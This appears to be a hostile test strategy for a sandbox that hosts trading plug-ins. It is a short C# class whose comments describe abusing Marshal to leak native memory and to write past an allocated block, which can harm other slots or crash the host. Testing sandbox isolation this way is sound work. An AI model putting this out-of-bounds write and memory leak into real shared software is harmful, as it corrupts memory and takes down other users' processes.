// Abuses: Marshal reads and writes any address given as a number: no unsafe code, no P/Invoke of our own.
// Harm: native memory that is never freed; a write to a wrong address ends the process.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MarshalReadWriteAttack;

public sealed class MarshalReadWriteStrategy : Attacker
{
    private nint _block;

    public override void OnBook(in BookEvent bookEvent)
    {
        _block = Marshal.AllocHGlobal(1 << 20);
        Marshal.WriteInt64(_block, 1 << 20, _n);
        Act(Marshal.ReadInt64(_block, 8) + Marshal.GetLastPInvokeError());
    }
}
